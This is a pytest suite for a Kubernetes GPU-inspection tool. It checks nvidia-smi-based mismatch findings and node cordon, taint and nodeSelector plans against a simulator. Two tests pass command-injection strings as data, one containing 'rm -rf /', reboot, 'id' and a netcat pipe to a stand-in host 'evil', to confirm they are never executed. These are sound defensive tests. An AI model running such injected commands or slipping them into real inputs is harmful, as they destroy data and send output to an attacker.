"""Step 5 against the simulator through the real client: the GPU inspector's rows and
mismatches, the fixed nvidia-smi argv, and each plan previewed, applied, verified, reverted."""

from __future__ import annotations

import builtins
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from services import hardware
from services.errors import InvalidError, SkewmitError
from services.gate import Gate, comparable
from services.kube import KubeCluster
from services.models import GpuReading, HardwareReport, Severity, Step
from services.simulator.faults import Fault
from services.simulator.runner import Simulator
from tests.services import harness
from tests.services.harness import connect, wait_for

NS, NAME = "inference", "llm-serve"
SPEED = 60.0
H100 = "NVIDIA-H100-80GB-HBM3"
A10G = "NVIDIA-A10G"
PRODUCT = "nvidia.com/gpu.product"


def gate_for(cluster: Any, tmp_path: Path) -> Gate:
    return harness.gate_for(cluster, tmp_path, NS, NAME)


def nodes_of(cluster: KubeCluster, product: str) -> list[str]:
    return sorted(
        n["metadata"]["name"]
        for n in cluster.list("Node")
        if (n["metadata"].get("labels") or {}).get(PRODUCT) == product
    )


def serving_pods(cluster: KubeCluster) -> list[dict[str, Any]]:
    return [
        p
        for p in cluster.list("Pod", NS, label_selector=f"app={NAME}")
        if not p["metadata"].get("deletionTimestamp")
    ]


def ready_on(cluster: KubeCluster, nodes: list[str]) -> list[str]:
    return [
        p["metadata"]["name"]
        for p in serving_pods(cluster)
        if p["spec"].get("nodeName") in nodes
        and any(
            c["type"] == "Ready" and c["status"] == "True"
            for c in p.get("status", {}).get("conditions") or []
        )
    ]


def all_ready_on(cluster: KubeCluster, nodes: list[str], count: int = 4) -> bool:
    """From one list: exactly `count` serving pods that are not terminating, each ready and
    on one of `nodes` (a rollout seen done, not two moments of it)."""
    pods = serving_pods(cluster)
    return len(pods) == count and all(
        p["spec"].get("nodeName") in nodes
        and any(
            c["type"] == "Ready" and c["status"] == "True"
            for c in p.get("status", {}).get("conditions") or []
        )
        for p in pods
    )


def one_pod_on_a10g(cluster: KubeCluster) -> str:
    """Make sure one serving pod runs, ready, on an A10G node, whatever the scheduler prefers:
    cordon the H100 nodes, delete one pod, wait for its replacement, uncordon."""
    a10g, h100 = nodes_of(cluster, A10G), nodes_of(cluster, H100)
    wait_for("4 ready pods", lambda: len(ready_on(cluster, a10g + h100)) == 4)
    if not ready_on(cluster, a10g):
        for node in h100:
            cluster.patch("Node", "", node, {"spec": {"unschedulable": True}}, "merge")
        victim = sorted(p["metadata"]["name"] for p in serving_pods(cluster))[0]
        cluster.delete("Pod", NS, victim)
        wait_for("a ready pod on the A10G node", lambda: ready_on(cluster, a10g))
        for node in h100:
            cluster.patch("Node", "", node, {"spec": {"unschedulable": None}}, "merge")
    wait_for("4 ready pods again", lambda: len(ready_on(cluster, a10g + h100)) == 4)
    # Plans carry the resourceVersion they read: let the Deployment's status settle first.
    wait_for("the deployment to settle", lambda: settled(cluster))
    (pod,) = ready_on(cluster, a10g)
    return str(pod)


def settled(cluster: KubeCluster) -> bool:
    status = cluster.get("Deployment", NS, NAME).get("status", {})
    counts = [status.get(k) for k in ("replicas", "updatedReplicas", "readyReplicas")]
    return (
        counts == [4, 4, 4]
        and status.get("availableReplicas") == 4
        and not status.get("unavailableReplicas")
    )


class RecordingCluster:
    """The real client, with every exec call recorded."""

    def __init__(self, inner: KubeCluster) -> None:
        self.inner = inner
        self.execs: list[tuple[str, str, str, list[str]]] = []

    def __getattr__(self, name: str) -> Any:
        return getattr(self.inner, name)

    def exec(self, namespace: str, pod: str, container: str, argv: builtins.list[str]) -> str:
        self.execs.append((namespace, pod, container, list(argv)))
        return self.inner.exec(namespace, pod, container, argv)


class CrashingPodCluster(RecordingCluster):
    """Shows one pod's serving container as crash-looping."""

    def __init__(self, inner: KubeCluster, pod: str) -> None:
        super().__init__(inner)
        self.pod = pod

    def list(self, kind: str, namespace: str = "", **kwargs: str) -> builtins.list[Any]:
        items = self.inner.list(kind, namespace, **kwargs)
        for item in items:
            if kind == "Pod" and item["metadata"]["name"] == self.pod:
                for status in item["status"]["containerStatuses"]:
                    status["state"] = {"waiting": {"reason": "CrashLoopBackOff"}}
        return items


@pytest.fixture
def hardware_only(tmp_path: Path) -> Iterator[Simulator]:
    with Simulator("hardware-only", speed=SPEED) as sim:
        yield sim


def test_rows_follow_each_pod_to_its_gpu_and_expect_the_lkg_class(
    shared_sim: Simulator, tmp_path: Path
) -> None:
    cluster = connect(shared_sim, tmp_path)
    report = hardware.gpu_inspection(cluster, NS, NAME)
    assert report.expected_class == "H100-80GB"
    assert "last-known-good" in report.expected_reason and report.lkg_revision == 2
    assert report.pinned_class is None  # revision 3 dropped the nodeSelector
    pods = {p["metadata"]["name"]: p for p in serving_pods(cluster)}
    assert {row.pod for row in report.rows} >= set(pods)
    labels = {n["metadata"]["name"]: n["metadata"]["labels"] for n in cluster.list("Node")}
    for row in report.rows:
        if row.pod not in pods or not row.smi_name:
            continue
        on_a10g = labels[row.node][PRODUCT] == A10G
        # nvidia-smi's own words, parsed, agree with the node the pod runs on.
        assert row.smi_name == ("NVIDIA A10G" if on_a10g else "NVIDIA H100 80GB HBM3")
        assert row.smi_memory_mib == (23028 if on_a10g else 81559)
        assert row.gpu_class == ("A10G" if on_a10g else "H100-80GB")
        assert row.mismatch is on_a10g
    findings = hardware.hardware_findings(report)
    codes = [f.code for f in findings]
    # One finding per wrong class, naming every pod on it (issue 10).
    classes = {row.gpu_class for row in report.mismatches}
    assert codes.count("gpu-class-mismatch") == len(classes)
    mismatch = [f for f in findings if f.code == "gpu-class-mismatch"]
    named = [p for f in mismatch for p in f.detail.get("pods", [f.subject.removeprefix("pod/")])]
    assert sorted(named) == sorted(row.pod for row in report.mismatches)
    assert "gpu-class-unpinned" in codes


def test_exec_runs_only_the_fixed_nvidia_smi_query(shared_sim: Simulator, tmp_path: Path) -> None:
    cluster = RecordingCluster(connect(shared_sim, tmp_path))
    hostile = "H100; rm -rf / $(reboot) `id` | nc evil 1"
    report = hardware.gpu_inspection(
        cluster, NS, NAME, configured=hostile, dcgm={"x": hostile, "--format=json": hostile}
    )
    assert cluster.execs, "nvidia-smi was never run"
    assert hardware.NVIDIA_SMI_ARGV == (
        "nvidia-smi",
        "--query-gpu=name,memory.total",
        "--format=csv",
    )
    for namespace, _pod, container, argv in cluster.execs:
        assert argv == list(hardware.NVIDIA_SMI_ARGV)
        assert (namespace, container) == (NS, "vllm")
        assert hostile not in " ".join(argv)
    assert {pod for _ns, pod, _c, _argv in cluster.execs} <= {row.pod for row in report.rows}


def test_exec_failure_and_a_pod_not_running_become_row_notes(
    hardware_only: Simulator, tmp_path: Path
) -> None:
    inner = connect(hardware_only, tmp_path)
    crashing = sorted(p["metadata"]["name"] for p in serving_pods(inner))[0]
    cluster = CrashingPodCluster(inner, crashing)
    assert hardware_only.cluster is not None
    faults = hardware_only.cluster.faults
    hardware_only.call(faults.set, [Fault(exec_fail=True)])
    report = hardware.gpu_inspection(cluster, NS, NAME)
    hardware_only.call(faults.clear)
    assert crashing not in {pod for _ns, pod, _c, _argv in cluster.execs}
    notes = {row.pod: row.note for row in report.rows}
    assert "not running (waiting:CrashLoopBackOff)" in notes[crashing]
    for pod, note in notes.items():
        if pod != crashing:
            assert "nvidia-smi could not run" in note and "i/o timeout" in note
    # Without nvidia-smi the node labels still tell the class.
    assert all(row.smi_name is None and row.gpu_class for row in report.rows)


def test_hardware_only_flags_the_pod_on_the_a10g(hardware_only: Simulator, tmp_path: Path) -> None:
    cluster = connect(hardware_only, tmp_path)
    wrong = one_pod_on_a10g(cluster)
    report = hardware.gpu_inspection(cluster, NS, NAME)
    # No revision pins a GPU, so the majority of healthy pods decides.
    assert report.expected_class == "H100-80GB" and "3 of 4 healthy pods" in report.expected_reason
    assert [row.pod for row in report.mismatches] == [wrong]
    (row,) = report.mismatches
    assert (row.smi_name, row.gpu_class) == ("NVIDIA A10G", "A10G")
    mismatch = [f for f in hardware.hardware_findings(report) if f.code == "gpu-class-mismatch"]
    assert [(f.severity, f.subject, f.step) for f in mismatch] == [
        (Severity.ERROR, f"pod/{wrong}", Step.HARDWARE)
    ]
    # The runbook's actions default to the wrong node and pod.
    actions = {a["id"]: a for a in hardware.hardware_actions(report)}
    assert actions["hardware.cordon"]["inputs"][0]["default"] == row.node
    assert actions["hardware.delete-pods"]["inputs"][0]["default"] == wrong
    assert actions["hardware.delete-pods"]["destructive"] is True
    with pytest.raises(InvalidError, match="needs node"):
        hardware.plan(cluster, NS, NAME, "hardware.cordon", {"node": " "})
    plan = hardware.plan(cluster, NS, NAME, "hardware.delete-pods", {})
    assert [c.name for c in plan.changes] == [wrong]


@pytest.mark.parametrize("affinity", [False, True])
def test_node_selector_plan_moves_every_pod_to_h100_and_reverts(
    hardware_only: Simulator, tmp_path: Path, affinity: bool
) -> None:
    cluster = connect(hardware_only, tmp_path)
    one_pod_on_a10g(cluster)
    gate = gate_for(cluster, tmp_path)
    before = cluster.get("Deployment", NS, NAME)
    plan = hardware.node_selector_plan(cluster, NS, NAME, "H100-80GB", affinity=affinity)
    assert (plan.step, plan.action) == (Step.HARDWARE, "hardware.node-selector")
    assert plan.kubectl[0].startswith(f"kubectl patch deployment/{NAME} -n {NS} --type=strategic")
    preview = gate.preview(plan)
    assert preview.allowed and preview.dry_run_ok, preview.dry_run_message
    assert comparable(cluster.get("Deployment", NS, NAME)) == comparable(before)

    applied = gate.apply(plan, preview)
    assert applied.verified, applied.message
    spec = cluster.get("Deployment", NS, NAME)["spec"]["template"]["spec"]
    if affinity:
        terms = spec["affinity"]["nodeAffinity"]["requiredDuringSchedulingIgnoredDuringExecution"]
        assert terms["nodeSelectorTerms"] == [
            {"matchExpressions": [{"key": PRODUCT, "operator": "In", "values": [H100]}]}
        ]
    else:
        assert spec["nodeSelector"] == {PRODUCT: H100}
    h100 = nodes_of(cluster, H100)
    # One list must show the rollout done: mid-rollout, "4 ready on an H100" counts the old
    # ReplicaSet's pods there too, and "4 pods" holds whenever the old ReplicaSet has
    # scaled down before the new one surged. Two lists, one for each, once passed under CI's
    # load while the old pod on the A10G, the last to go, still ran (traced in the
    # simulator's change feed). The inspection must agree as well.
    wait_for(
        "every pod to run on an H100, and the inspection to say so",
        lambda: (
            all_ready_on(cluster, h100)
            and hardware.gpu_inspection(cluster, NS, NAME).mismatches == ()
        ),
        timeout_s=60,
    )
    report = hardware.gpu_inspection(cluster, NS, NAME)
    assert report.mismatches == () and report.pinned_class == "H100-80GB"
    with pytest.raises(InvalidError, match="already"):
        hardware.node_selector_plan(cluster, NS, NAME, "H100-80GB", affinity=affinity)

    reverted = gate.revert(applied.seq)
    assert reverted.verified, reverted.message
    assert comparable(cluster.get("Deployment", NS, NAME)) == comparable(before)


def test_cordon_and_taint_plans_apply_and_revert_to_the_same_node(
    hardware_only: Simulator, tmp_path: Path
) -> None:
    cluster = connect(hardware_only, tmp_path)
    gate = gate_for(cluster, tmp_path)
    (node,) = nodes_of(cluster, A10G)
    before = cluster.get("Node", "", node)

    cordon = hardware.cordon_plan(cluster, node)
    assert cordon.kubectl == (f"kubectl cordon {node}",)
    applied = gate.apply(cordon, gate.preview(cordon))
    assert applied.verified and cluster.get("Node", "", node)["spec"]["unschedulable"] is True
    with pytest.raises(InvalidError, match="already cordoned"):
        hardware.cordon_plan(cluster, node)
    assert gate.revert(applied.seq).verified
    assert comparable(cluster.get("Node", "", node)) == comparable(before)

    with pytest.raises(InvalidError, match="not a valid label key"):
        hardware.taint_plan(cluster, node, "bad key; rm -rf /", "x")
    taint = hardware.taint_plan(cluster, node, "skewmit.io/gpu-class", "a10g")
    assert taint.kubectl == (f"kubectl taint nodes {node} skewmit.io/gpu-class=a10g:NoSchedule",)
    preview = gate.preview(taint)
    assert preview.dry_run_ok, preview.dry_run_message
    assert comparable(cluster.get("Node", "", node)) == comparable(before)
    applied = gate.apply(taint, preview)
    assert applied.verified, applied.message
    assert {"key": "skewmit.io/gpu-class", "value": "a10g", "effect": "NoSchedule"} in cluster.get(
        "Node", "", node
    )["spec"]["taints"]
    assert gate.revert(applied.seq).verified
    assert comparable(cluster.get("Node", "", node)) == comparable(before)


def test_delete_pods_plan_with_a_cordon_moves_the_wrong_pod(
    hardware_only: Simulator, tmp_path: Path
) -> None:
    cluster = connect(hardware_only, tmp_path)
    wrong = one_pod_on_a10g(cluster)
    gate = gate_for(cluster, tmp_path)
    report = hardware.gpu_inspection(cluster, NS, NAME)
    right = next(row.pod for row in report.rows if not row.mismatch)
    with pytest.raises(InvalidError, match="only pods on wrong nodes"):
        hardware.delete_pods_plan(cluster, report, [right])
    plan = hardware.delete_pods_plan(cluster, report)
    assert plan.destructive and plan.kubectl == (f"kubectl delete pod -n {NS} {wrong}",)
    assert any("may land on the same GPU class again" in note for note in plan.notes)

    (node,) = nodes_of(cluster, A10G)
    cordon = hardware.cordon_plan(cluster, node)
    assert gate.apply(cordon, gate.preview(cordon)).verified
    preview = gate.preview(plan)
    assert preview.dry_run_ok, preview.dry_run_message
    assert wrong in {p["metadata"]["name"] for p in serving_pods(cluster)}
    applied = gate.apply(plan, preview)
    assert applied.verified, applied.message
    h100 = nodes_of(cluster, H100)
    wait_for(
        "the replacement to be ready on an H100",
        lambda: len(ready_on(cluster, h100)) == 4 and len(serving_pods(cluster)) == 4,
    )
    assert wrong not in {p["metadata"]["name"] for p in serving_pods(cluster)}
    assert hardware.gpu_inspection(cluster, NS, NAME).mismatches == ()
    # A deleted pod cannot come back: the revert has nothing to do and says so by doing nothing.
    reverted = gate.revert(applied.seq)
    assert reverted.plan.changes == ()


def test_plans_refuse_what_cannot_be_done(hardware_only: Simulator, tmp_path: Path) -> None:
    cluster = connect(hardware_only, tmp_path)
    with pytest.raises(SkewmitError, match="no node carries GPU class"):
        hardware.node_selector_plan(cluster, NS, NAME, "B200")
    report = hardware.gpu_inspection(cluster, NS, NAME)
    clean = replace(report, rows=tuple(replace(row, mismatch=False) for row in report.rows))
    with pytest.raises(InvalidError, match="nothing to delete"):
        hardware.delete_pods_plan(cluster, clean)


def test_a_healthy_fleet_gives_no_findings(tmp_path: Path) -> None:
    with Simulator("healthy", speed=SPEED) as sim:
        report = hardware.gpu_inspection(connect(sim, tmp_path), NS, NAME)
    assert report.rows and report.mismatches == ()
    assert report.expected_class == report.pinned_class == "H100-80GB"
    assert all(row.smi_name == "NVIDIA H100 80GB HBM3" for row in report.rows)
    assert hardware.hardware_findings(report) == []


def test_a_thousand_mismatched_pods_are_one_finding_per_class() -> None:
    def row(i: int, gpu_class: str) -> GpuReading:
        node = f"gpu-{gpu_class.lower()}-{i % 4}"
        return GpuReading(
            f"llm-serve-{i:04d}", node, gpu_class, "label", None, None, None, gpu_class,
            "H100-80GB", gpu_class != "H100-80GB",
        )  # fmt: skip

    rows = [row(i, "A10G") for i in range(1000)] + [row(1000, "L4"), row(1001, "H100-80GB")]
    report = HardwareReport(
        "inference", "llm-serve", tuple(rows), "H100-80GB", "last-known-good", "H100-80GB", 2
    )
    mismatch = [f for f in hardware.hardware_findings(report) if f.code == "gpu-class-mismatch"]
    assert [f.subject for f in mismatch] == [
        "pod/llm-serve-0000, pod/llm-serve-0001, pod/llm-serve-0002 and 997 more (1000 pods)",
        "pod/llm-serve-1000",  # one pod on L4: its own finding, node named
    ]
    folded, lone = mismatch
    assert folded.message == (
        "1000 pods run on A10G (nodes gpu-a10g-0, gpu-a10g-1, gpu-a10g-2 and 1 more), "
        "expected H100-80GB (last-known-good)"
    )
    assert folded.detail["count"] == 1000 and len(folded.detail["pods"]) == 1000
    assert folded.detail["nodes"] == [f"gpu-a10g-{i}" for i in range(4)]
    assert lone.message == (
        "pod llm-serve-1000 runs on L4 (node gpu-l4-0), expected H100-80GB (last-known-good)"
    )
    assert {f.severity for f in mismatch} == {Severity.ERROR}


def test_a_large_fleets_detail_is_a_line_per_gpu_class_not_per_pod() -> None:
    """Step 5's detail on `large`: a line per GPU class and the first pods on a wrong class,
    not 1,000 per-pod lines to lay out each time the step opens (issue 9)."""

    def row(i: int, gpu_class: str, nodes: int) -> GpuReading:
        node = f"gpu-{gpu_class.lower()}-{i % nodes}"
        return GpuReading(
            f"llm-serve-{i:04d}", node, gpu_class, "label", None, None, None, gpu_class,
            "H100-80GB", gpu_class != "H100-80GB",
        )  # fmt: skip

    rows = [row(i, "H100-80GB", 100) for i in range(800)]
    rows += [row(i, "A10G", 25) for i in range(800, 1000)]
    report = HardwareReport(
        "inference", "llm-serve", tuple(rows), "H100-80GB", "last-known-good", None, 2
    )
    lines = hardware.describe(report)
    assert lines[:3] == [
        "1000 pods on 125 nodes; expected H100-80GB",
        "H100-80GB: 800 pods on 100 nodes",
        "A10G: 200 pods on 25 nodes  MISMATCH",
    ]
    assert lines[3] == f"on a wrong class ({hardware.DETAIL_WRONG_PODS} of 200):"
    wrong = lines[4 : 4 + hardware.DETAIL_WRONG_PODS]
    assert wrong[0] == "llm-serve-0800 -> gpu-a10g-0 -> A10G  MISMATCH"
    assert all(line.endswith("MISMATCH") for line in wrong)
    assert lines[-1] == "every pod with its node and GPU: the GPU inspector"
    assert len(lines) == 5 + hardware.DETAIL_WRONG_PODS

    # A fleet the detail can list whole keeps its line per pod.
    small = replace(report, rows=tuple(rows[795:805]))
    assert hardware.describe(small) == [
        f"{r.pod} -> {r.node} -> {r.gpu_class}{'  MISMATCH' if r.mismatch else ''}"
        for r in rows[795:805]
    ]
